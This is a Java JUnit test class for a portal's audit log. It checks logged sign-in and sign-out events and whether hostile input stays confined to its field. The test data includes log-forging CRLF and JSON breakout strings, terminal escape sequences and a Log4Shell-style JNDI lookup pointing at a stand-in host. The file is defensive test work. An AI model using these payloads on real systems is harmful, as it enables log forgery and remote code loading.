package org.memorycached.portal;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.memorycached.portal.audit.AuditEvent;
import org.memorycached.portal.audit.AuditLog;
import org.memorycached.session.SessionId;
import org.memorycached.session.SessionStore;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Who did what, in a log that nobody can write into but the portal. */
@PortalTest
class AuditTest {

    private final Logger logger = (Logger) LoggerFactory.getLogger("org.memorycached.audit");
    private final ListAppender<ILoggingEvent> written = new ListAppender<>();

    @Autowired
    private AuditLog log;

    @Autowired
    private SessionStore store;

    @LocalServerPort
    private int port;

    @BeforeEach
    void listen() {
        logger.setLevel(Level.INFO);
        written.start();
        logger.addAppender(written);
    }

    @AfterEach
    void listenNoMore() {
        logger.detachAppender(written);
    }

    private List<String> lines() {
        return written.list.stream().map(ILoggingEvent::getFormattedMessage).toList();
    }

    private List<JsonNode> events() {
        return lines().stream().map(JsonMapper.shared()::readTree).toList();
    }

    private String fingerprint(SessionId id) {
        return store.keyOf(id).fingerprint().substring(0, 12);
    }

    @Test
    void aSessionsStoryIsInTheLogAndItsIdIsNot() {
        Browser browser = new Browser(port);
        browser.signIn("dwho", "wrong");
        browser.signIn("dwho", "dwho");
        SessionId first = browser.sessionId();
        browser.get("/logout");
        browser.submit("/login", Map.of("username", "rtyler", "password", "rtyler"));
        SessionId second = browser.sessionId();
        browser.signOut();

        assertThat(lines())
                .containsExactly(
                        "{\"event\":\"sign-in-failure\",\"user\":\"dwho\",\"address\":\"127.0.0.1\","
                                + "\"detail\":\"wrong name or password\"}",
                        "{\"event\":\"sign-in\",\"user\":\"dwho\",\"session\":\"" + fingerprint(first)
                                + "\",\"address\":\"127.0.0.1\"}",
                        "{\"event\":\"eviction\",\"user\":\"rtyler\",\"session\":\"" + fingerprint(first)
                                + "\",\"address\":\"127.0.0.1\",\"detail\":\"another sign-in with the same browser\"}",
                        "{\"event\":\"sign-in\",\"user\":\"rtyler\",\"session\":\"" + fingerprint(second)
                                + "\",\"address\":\"127.0.0.1\"}",
                        "{\"event\":\"sign-out\",\"user\":\"rtyler\",\"session\":\"" + fingerprint(second)
                                + "\",\"address\":\"127.0.0.1\"}");
        assertThat(String.join("\n", lines())).doesNotContain(first.value(), second.value(), "wrong\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "dwho\r\n{\"event\":\"sign-in\",\"user\":\"admin\"}",
                "\",\"event\":\"sign-in",
                "\\\",\\u000a",
                "\u0000\u001B[2J\u001B]0;x\u0007\b\t\f",
                "\u007F\u0085\u009B31m",
                "\u2028\u2029\u202E\u200B\uFEFF",
                "\uD800 half a character",
                "${jndi:ldap://evil.example/}{}%n%m",
                "ѕign-in"
            })
    void whatAStrangerTypesStaysInsideItsField(String typed) {
        log.write(new AuditEvent(AuditEvent.Kind.FAILURE, typed, null, typed, typed));
        Browser browser = new Browser(port);
        browser.signIn(typed, "wrong");

        assertThat(lines()).hasSize(2).allMatch(line -> line.matches("[\\x20-\\x7E]+"));
        assertThat(events()).allSatisfy(event -> {
            assertThat(event.propertyNames())
                    .contains("event", "user")
                    .isSubsetOf("event", "user", "address", "detail");
            assertThat(event.get("event").asString()).isEqualTo("sign-in-failure");
        });
        assertThat(events().get(0).get("user").asString()).isEqualTo(typed);
    }

    @Test
    void aNameWithoutEndIsCut() {
        log.write(new AuditEvent(AuditEvent.Kind.FAILURE, "x".repeat(100_000), null, null, null));

        assertThat(events().get(0).get("user").asString()).hasSize(203);
    }

    @Test
    void whatAnAdministratorDoesHasTheirName() {
        SessionId id = new SessionId("0123456789abcdef0123456789abcdef");
        log.write(new AuditEvent(
                AuditEvent.Kind.ADMINISTRATION, "dwho", store.keyOf(id), "127.0.0.1", "ended by rtyler"));

        assertThat(lines())
                .containsExactly("{\"event\":\"administration\",\"user\":\"dwho\",\"session\":\"" + fingerprint(id)
                        + "\",\"address\":\"127.0.0.1\",\"detail\":\"ended by rtyler\"}");
    }
}
